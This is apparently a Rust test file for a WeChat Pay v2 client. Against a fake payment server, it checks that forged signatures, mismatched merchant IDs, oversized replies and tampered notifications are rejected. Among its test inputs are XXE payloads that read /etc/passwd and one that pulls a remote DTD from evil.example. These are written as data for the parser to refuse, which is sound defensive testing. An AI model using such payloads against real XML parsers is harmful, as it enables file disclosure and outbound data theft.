//! Pay v2 client against a fake WeChat Pay that checks request signatures with independent code, and
//! v2 notifications built and broken by the test.
mod common;

use std::collections::BTreeMap;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use axum::body::Bytes;
use axum::extract::State;
use axum::response::{IntoResponse, Response};
use common::*;
use hmac::Mac;
use http::{StatusCode, Uri};
use md5::Digest as _;
use wechat::pay::v2::{
    identity_from_pem, identity_from_pkcs12, PayV2Client, PayV2Config, PayV2Error,
};
use wechat::xml::XmlError;
use wechat::{
    BaseUrl, NotifyError, PayErrCode, PayGateway, PrepayRequest, RefundRequest, SignType,
    TradeState,
};

const KEY: &str = "192006250b4c09247ec02edce69f6a2d";
const PREFIX: &str = "/sandbox/api";

/// Independent v2 signer: BTreeMap order is byte (ASCII) order.
fn indep_sign(m: &BTreeMap<String, String>, key: &str, st: SignType) -> String {
    let mut s = m
        .iter()
        .filter(|(k, v)| k.as_str() != "sign" && !v.is_empty())
        .map(|(k, v)| format!("{k}={v}"))
        .collect::<Vec<_>>()
        .join("&");
    s.push_str("&key=");
    s.push_str(key);
    match st {
        SignType::Md5 => hex::encode_upper(md5::Md5::digest(s.as_bytes())),
        SignType::HmacSha256 => {
            let mut mac = hmac::Hmac::<sha2::Sha256>::new_from_slice(key.as_bytes()).unwrap();
            mac.update(s.as_bytes());
            hex::encode_upper(mac.finalize().into_bytes())
        }
    }
}

fn to_xml(m: &BTreeMap<String, String>) -> String {
    let mut s = String::from("<xml>");
    for (k, v) in m {
        s.push_str(&format!("<{k}><![CDATA[{v}]]></{k}>"));
    }
    s.push_str("</xml>");
    s
}

#[derive(Clone, Copy, Debug, PartialEq)]
enum Answer {
    Good,
    BadSign,
    NoSign,
    ReturnFail,
    ResultFail(&'static str),
    OtherAppid,
    Xxe,
    Huge,
    Http500,
    Slow,
}

struct Fake {
    answer: Mutex<Answer>,
    sign_type: SignType,
    good_requests: AtomicUsize,
    bad_requests: AtomicUsize,
    last: Mutex<BTreeMap<String, String>>,
}

async fn handler(State(fake): State<Arc<Fake>>, uri: Uri, body: Bytes) -> Response {
    let Some(path) = uri.path().strip_prefix(PREFIX) else {
        return StatusCode::NOT_FOUND.into_response();
    };
    let req = wechat::xml::parse_flat(&body, 65536).expect("client sends valid XML");
    let st = if req.get("sign_type").map(String::as_str) == Some("HMAC-SHA256") {
        SignType::HmacSha256
    } else {
        SignType::Md5
    };
    if st != fake.sign_type
        || req.get("sign") != Some(&indep_sign(&req, KEY, st))
        || req["appid"] != APPID
        || req["mch_id"] != MCHID
        || req["nonce_str"].len() != 32
    {
        fake.bad_requests.fetch_add(1, Ordering::SeqCst);
        return to_xml(&BTreeMap::from([
            ("return_code".into(), "FAIL".into()),
            ("return_msg".into(), "签名错误".into()),
        ]))
        .into_response();
    }
    fake.good_requests.fetch_add(1, Ordering::SeqCst);
    *fake.last.lock().unwrap() = req.clone();
    let answer = *fake.answer.lock().unwrap();
    let mut m: BTreeMap<String, String> = BTreeMap::new();
    for (k, v) in [
        ("return_code", "SUCCESS"),
        ("return_msg", "OK"),
        ("appid", APPID),
        ("mch_id", MCHID),
        ("nonce_str", "IITRi8Iabbblz1Jc"),
        ("result_code", "SUCCESS"),
    ] {
        m.insert(k.into(), v.into());
    }
    match path {
        "/pay/unifiedorder" => {
            m.insert(
                "prepay_id".into(),
                "wx201411101639507cbf6ffd8b0779950874".into(),
            );
            m.insert("trade_type".into(), "JSAPI".into());
        }
        "/pay/orderquery" => {
            for (k, v) in [
                ("out_trade_no", req["out_trade_no"].as_str()),
                ("trade_state", "SUCCESS"),
                ("total_fee", "1990"),
                ("transaction_id", "1008450740201411110005820873"),
                ("openid", "oUpF8uMuAJO_M2pxb1Q9zNjWeS6o"),
                ("time_end", "20141030133525"),
            ] {
                m.insert(k.into(), v.into());
            }
        }
        "/pay/closeorder" => {}
        "/secapi/pay/refund" => {
            for (k, v) in [
                ("out_trade_no", req["out_trade_no"].as_str()),
                ("out_refund_no", req["out_refund_no"].as_str()),
                ("refund_id", "2008450740201411110000174436"),
                ("refund_fee", req["refund_fee"].as_str()),
            ] {
                m.insert(k.into(), v.into());
            }
        }
        _ => return StatusCode::NOT_FOUND.into_response(),
    }
    match answer {
        Answer::Good => {}
        Answer::OtherAppid => {
            m.insert("appid".into(), "wx0000000000000000".into());
        }
        Answer::ResultFail(code) => {
            m.insert("result_code".into(), "FAIL".into());
            m.insert("err_code".into(), code.into());
            m.insert("err_code_des".into(), "描述".into());
            m.remove("prepay_id");
        }
        Answer::ReturnFail => {
            return to_xml(&BTreeMap::from([
                ("return_code".into(), "FAIL".into()),
                ("return_msg".into(), "参数格式校验错误".into()),
            ]))
            .into_response();
        }
        Answer::Xxe => {
            return "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><xml><return_code>&e;</return_code></xml>".into_response();
        }
        Answer::Huge => {
            return format!("<xml><a>{}</a></xml>", "x".repeat(70 * 1024)).into_response()
        }
        Answer::Http500 => return StatusCode::INTERNAL_SERVER_ERROR.into_response(),
        Answer::Slow => tokio::time::sleep(Duration::from_secs(3)).await,
        Answer::BadSign | Answer::NoSign => {}
    }
    let sign = indep_sign(&m, KEY, st);
    match answer {
        Answer::BadSign => {
            m.insert("sign".into(), sign);
            m.insert("prepay_id".into(), "wx-forged".into());
        }
        Answer::NoSign => {}
        _ => {
            m.insert("sign".into(), sign);
        }
    }
    to_xml(&m).into_response()
}

async fn fake_server(sign_type: SignType) -> (Arc<Fake>, String) {
    let fake = Arc::new(Fake {
        answer: Mutex::new(Answer::Good),
        sign_type,
        good_requests: AtomicUsize::new(0),
        bad_requests: AtomicUsize::new(0),
        last: Mutex::new(BTreeMap::new()),
    });
    let base = serve(
        axum::Router::new()
            .fallback(handler)
            .with_state(fake.clone()),
    )
    .await;
    (fake, format!("{base}{PREFIX}"))
}

fn config(base: &str, st: SignType) -> PayV2Config {
    PayV2Config::new(APPID, MCHID, KEY.into(), st, BaseUrl::parse(base).unwrap())
}

fn prepay_request() -> PrepayRequest {
    PrepayRequest {
        description: "腾讯充值中心-QQ会员充值".into(),
        out_trade_no: "20150806125346".into(),
        total_fee: 1990,
        openid: "oUpF8uMuAJO_M2pxb1Q9zNjWeS6o".into(),
        notify_url: "https://shop.example.com/pay/notify".into(),
        client_ip: "123.12.12.123".into(),
        time_expire: time::OffsetDateTime::from_unix_timestamp(1_414_643_725).ok(),
        attach: None,
    }
}

#[tokio::test]
async fn unified_order_md5_and_hmac() {
    for st in [SignType::Md5, SignType::HmacSha256] {
        let (fake, base) = fake_server(st).await;
        let c = PayV2Client::new(config(&base, st), http());
        let id = c
            .unified_order(&prepay_request())
            .await
            .unwrap_or_else(|e| panic!("{st}: {e}"));
        assert_eq!(id.as_str(), "wx201411101639507cbf6ffd8b0779950874");
        let last = fake.last.lock().unwrap().clone();
        assert_eq!(last["trade_type"], "JSAPI");
        assert_eq!(last["total_fee"], "1990");
        assert_eq!(last["body"], "腾讯充值中心-QQ会员充值");
        assert_eq!(last["time_expire"], "20141030123525");
        assert_eq!(last["sign_type"], st.as_str());
        assert!(
            !last.contains_key("attach"),
            "empty optional fields are not sent"
        );
        assert_eq!(fake.good_requests.load(Ordering::SeqCst), 1);
        assert_eq!(fake.bad_requests.load(Ordering::SeqCst), 0);
        // Page parameters: signed afresh, never the answer's sign.
        let p = c.jsapi_pay_params(&id);
        let m: BTreeMap<String, String> = [
            ("appId", &p.app_id),
            ("timeStamp", &p.time_stamp),
            ("nonceStr", &p.nonce_str),
            ("package", &p.package),
            ("signType", &p.sign_type),
        ]
        .into_iter()
        .map(|(k, v)| (k.to_string(), v.to_string()))
        .collect();
        assert_eq!(p.pay_sign, indep_sign(&m, KEY, st));
        assert_eq!(p.sign_type, st.as_str());
    }
}

#[tokio::test]
async fn query_close_refund() {
    let (fake, base) = fake_server(SignType::Md5).await;
    let c = PayV2Client::new(config(&base, SignType::Md5), http());
    let s = c.order_query("20150806125346").await.expect("query");
    assert_eq!(s.trade_state, TradeState::Success);
    assert_eq!(s.total_fee, Some(1990));
    assert_eq!(s.paid_at.as_deref(), Some("2014-10-30T13:35:25+08:00"));
    c.close_order("20150806125346").await.expect("close");
    let refund = RefundRequest {
        out_trade_no: "20150806125346".into(),
        out_refund_no: "R20150806125346".into(),
        total_fee: 1990,
        refund_fee: 1000,
        reason: None,
        notify_url: None,
    };
    assert!(matches!(
        c.refund(&refund).await,
        Err(PayV2Error::RefundNotConfigured)
    ));
    let k = keys();
    let id =
        identity_from_pem(k.mch_cert_pem.as_bytes(), k.mch_pem.as_bytes()).expect("PEM identity");
    let c2 = c.clone().with_refund_identity(id).expect("mTLS client");
    let r = c2.refund(&refund).await.expect("refund");
    assert_eq!(r.refund_fee, 1000);
    assert_eq!(r.refund_id, "2008450740201411110000174436");
    assert_eq!(fake.last.lock().unwrap()["refund_fee"], "1000");
    // PKCS#12 (password = mchid) loads; a wrong password does not.
    let id = identity_from_pkcs12(&k.mch_p12, MCHID).expect("PKCS#12 identity");
    c.clone()
        .with_refund_identity(id)
        .expect("mTLS client from p12");
    assert!(identity_from_pkcs12(&k.mch_p12, "wrong").is_err());
    assert!(identity_from_pem(b"junk", b"junk").is_err());
}

#[tokio::test]
async fn answers_refused() {
    let (fake, base) = fake_server(SignType::Md5).await;
    let c = PayV2Client::new(config(&base, SignType::Md5), http());
    let set = |a| *fake.answer.lock().unwrap() = a;
    set(Answer::BadSign);
    assert!(matches!(
        c.unified_order(&prepay_request()).await,
        Err(PayV2Error::BadSignature)
    ));
    set(Answer::NoSign);
    assert!(matches!(
        c.unified_order(&prepay_request()).await,
        Err(PayV2Error::MissingSignature)
    ));
    set(Answer::ReturnFail);
    assert!(
        matches!(c.unified_order(&prepay_request()).await, Err(PayV2Error::ReturnFail(m)) if m == "参数格式校验错误")
    );
    set(Answer::ResultFail("ORDERPAID"));
    let e = c.unified_order(&prepay_request()).await.unwrap_err();
    assert!(
        matches!(
            &e,
            PayV2Error::Business {
                code: PayErrCode::OrderPaid,
                ..
            }
        ),
        "{e:?}"
    );
    set(Answer::ResultFail("ORDERNOTEXIST"));
    let gw: Arc<dyn PayGateway> = Arc::new(c.clone());
    assert!(gw
        .query("20150806125346")
        .await
        .unwrap_err()
        .is_order_not_exist());
    set(Answer::OtherAppid);
    assert!(matches!(
        c.unified_order(&prepay_request()).await,
        Err(PayV2Error::AppIdMismatch)
    ));
    set(Answer::Xxe);
    assert!(matches!(
        c.unified_order(&prepay_request()).await,
        Err(PayV2Error::Xml(XmlError::DoctypeRefused))
    ));
    set(Answer::Huge);
    assert!(matches!(
        c.unified_order(&prepay_request()).await,
        Err(PayV2Error::Http(wechat::http::HttpError::TooLarge { .. }))
    ));
    set(Answer::Http500);
    assert!(matches!(
        c.unified_order(&prepay_request()).await,
        Err(PayV2Error::Http(wechat::http::HttpError::Status {
            status: 500
        }))
    ));
    set(Answer::Slow);
    let mut cfg = config(&base, SignType::Md5);
    cfg.timeout = Duration::from_millis(300);
    let slow = PayV2Client::new(cfg, http());
    let e = slow.unified_order(&prepay_request()).await.unwrap_err();
    assert!(
        matches!(e, PayV2Error::Http(wechat::http::HttpError::Timeout)),
        "{e:?}"
    );
    assert!(wechat::PayError::from(e).is_timeout());
    // Wrong key on our side: WeChat refuses (return_code FAIL), nothing is trusted.
    set(Answer::Good);
    let mut wrong = config(&base, SignType::Md5);
    wrong.key = "00000000000000000000000000000000".into();
    assert!(matches!(
        PayV2Client::new(wrong, http())
            .unified_order(&prepay_request())
            .await,
        Err(PayV2Error::ReturnFail(_))
    ));
    // Invalid requests never leave the process.
    let before =
        fake.good_requests.load(Ordering::SeqCst) + fake.bad_requests.load(Ordering::SeqCst);
    let mut r = prepay_request();
    r.total_fee = -1;
    assert!(matches!(
        c.unified_order(&r).await,
        Err(PayV2Error::InvalidRequest(_))
    ));
    let mut r = prepay_request();
    r.client_ip.clear();
    assert!(matches!(
        c.unified_order(&r).await,
        Err(PayV2Error::InvalidRequest(_))
    ));
    assert_eq!(
        before,
        fake.good_requests.load(Ordering::SeqCst) + fake.bad_requests.load(Ordering::SeqCst)
    );
}

// ---- notifications ----

fn notice_fields() -> BTreeMap<String, String> {
    [
        ("appid", APPID),
        ("attach", "支付测试"),
        ("bank_type", "CFT"),
        ("fee_type", "CNY"),
        ("is_subscribe", "Y"),
        ("mch_id", MCHID),
        ("nonce_str", "5d2b6c2a8db53831f7eda20af46e531c"),
        ("openid", "oUpF8uMEb4qRXf22hE3X68TekukE"),
        ("out_trade_no", "1409811653"),
        ("result_code", "SUCCESS"),
        ("return_code", "SUCCESS"),
        ("time_end", "20140903131540"),
        ("total_fee", "1990"),
        ("cash_fee", "1890"),
        ("coupon_fee", "100"),
        ("coupon_count", "1"),
        ("coupon_type_0", "CASH"),
        ("coupon_id_0", "10000"),
        ("coupon_fee_0", "100"),
        ("trade_type", "JSAPI"),
        ("transaction_id", "1004400740201409030005092168"),
    ]
    .into_iter()
    .map(|(k, v)| (k.to_string(), v.to_string()))
    .collect()
}

fn signed_notice(mut m: BTreeMap<String, String>, st: SignType) -> Vec<u8> {
    let s = indep_sign(&m, KEY, st);
    m.insert("sign".into(), s);
    to_xml(&m).into_bytes()
}

fn ncfg(st: SignType) -> PayV2Config {
    config("https://api.mch.weixin.qq.com", st)
}

#[test]
fn v2_notification_valid() {
    let n = wechat::pay::v2::notify::parse(
        &signed_notice(notice_fields(), SignType::Md5),
        &ncfg(SignType::Md5),
    )
    .expect("valid");
    assert_eq!(n.out_trade_no, "1409811653");
    assert_eq!(n.transaction_id, "1004400740201409030005092168");
    assert_eq!(n.total_fee, 1990);
    assert_eq!(n.payer_total, Some(1890));
    assert_eq!(n.openid, "oUpF8uMEb4qRXf22hE3X68TekukE");
    assert_eq!(n.paid_at.as_deref(), Some("2014-09-03T13:15:40+08:00"));
    assert_eq!(n.attach.as_deref(), Some("支付测试"));
    assert!(n.is_success());
    // HMAC-SHA256 as declared by the notification's sign_type.
    let mut m = notice_fields();
    m.insert("sign_type".into(), "HMAC-SHA256".into());
    assert!(wechat::pay::v2::notify::parse(
        &signed_notice(m, SignType::HmacSha256),
        &ncfg(SignType::Md5)
    )
    .is_ok());
}

#[test]
fn v2_notification_refusals() {
    let cfg = ncfg(SignType::Md5);
    let parse = |b: &[u8]| wechat::pay::v2::notify::parse(b, &cfg);
    // Tampered amount after signing.
    let tampered = String::from_utf8(signed_notice(notice_fields(), SignType::Md5))
        .unwrap()
        .replace("<total_fee><![CDATA[1990]]>", "<total_fee><![CDATA[1]]>");
    assert!(matches!(
        parse(tampered.as_bytes()),
        Err(NotifyError::BadSignature)
    ));
    // Signed with another key.
    let mut m = notice_fields();
    m.insert(
        "sign".into(),
        indep_sign(&m, "ffffffffffffffffffffffffffffffff", SignType::Md5),
    );
    assert!(matches!(
        parse(to_xml(&m).as_bytes()),
        Err(NotifyError::BadSignature)
    ));
    // No sign.
    assert!(matches!(
        parse(to_xml(&notice_fields()).as_bytes()),
        Err(NotifyError::MissingSignature)
    ));
    // XXE payloads.
    let xxe = "<?xml version=\"1.0\" encoding=\"utf-8\"?><!DOCTYPE xml [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><xml><return_code>&xxe;</return_code></xml>";
    assert!(matches!(
        parse(xxe.as_bytes()),
        Err(NotifyError::DoctypeRefused)
    ));
    let param =
        "<!DOCTYPE xml [<!ENTITY % remote SYSTEM \"http://evil.example/x.dtd\">%remote;]><xml/>";
    assert!(matches!(
        parse(param.as_bytes()),
        Err(NotifyError::DoctypeRefused)
    ));
    assert!(matches!(
        parse(b"<xml><return_code>&xxe;</return_code></xml>"),
        Err(NotifyError::EntityRefused)
    ));
    // Oversized.
    let big = format!(
        "<xml><return_code>SUCCESS</return_code><a>{}</a></xml>",
        "x".repeat(65 * 1024)
    );
    assert!(matches!(
        parse(big.as_bytes()),
        Err(NotifyError::TooLarge { .. })
    ));
    // Someone else's appid / merchant, correctly signed (same key reused across accounts).
    let mut m = notice_fields();
    m.insert("appid".into(), "wx0000000000000000".into());
    assert!(matches!(
        parse(&signed_notice(m, SignType::Md5)),
        Err(NotifyError::AppIdMismatch(_))
    ));
    let mut m = notice_fields();
    m.insert("mch_id".into(), "1111111111".into());
    assert!(matches!(
        parse(&signed_notice(m, SignType::Md5)),
        Err(NotifyError::MchIdMismatch(_))
    ));
    // return_code FAIL / result_code FAIL.
    let mut m = notice_fields();
    m.insert("return_code".into(), "FAIL".into());
    assert!(matches!(
        parse(&signed_notice(m, SignType::Md5)),
        Err(NotifyError::ReturnFail(_))
    ));
    let mut m = notice_fields();
    m.insert("result_code".into(), "FAIL".into());
    m.insert("err_code".into(), "NOTENOUGH".into());
    assert!(
        matches!(parse(&signed_notice(m, SignType::Md5)), Err(NotifyError::PaymentFailed { err_code, .. }) if err_code == "NOTENOUGH")
    );
    // Amount that is not integer fen.
    let mut m = notice_fields();
    m.insert("total_fee".into(), "19.90".into());
    assert!(matches!(
        parse(&signed_notice(m, SignType::Md5)),
        Err(NotifyError::Malformed(_))
    ));
    // Missing transaction_id.
    let mut m = notice_fields();
    m.remove("transaction_id");
    assert!(matches!(
        parse(&signed_notice(m, SignType::Md5)),
        Err(NotifyError::Malformed(_))
    ));
    // Duplicate field (which one was signed?).
    let dup = String::from_utf8(signed_notice(notice_fields(), SignType::Md5))
        .unwrap()
        .replace("</xml>", "<total_fee>1</total_fee></xml>");
    assert!(matches!(
        parse(dup.as_bytes()),
        Err(NotifyError::Malformed(_))
    ));
}

#[test]
fn v2_answers_are_exact() {
    let ok = wechat::pay::v2::notify::success();
    assert_eq!(ok.status, 200);
    assert_eq!(ok.body, "<xml><return_code><![CDATA[SUCCESS]]></return_code><return_msg><![CDATA[OK]]></return_msg></xml>");
    let f = wechat::pay::v2::notify::failure("签名失败]]><x>");
    assert_eq!(
        wechat::xml::parse_flat(f.body.as_bytes(), 1024).unwrap()["return_msg"],
        "签名失败]]><x>"
    );
    assert_eq!(
        wechat::xml::parse_flat(f.body.as_bytes(), 1024).unwrap()["return_code"],
        "FAIL"
    );
}
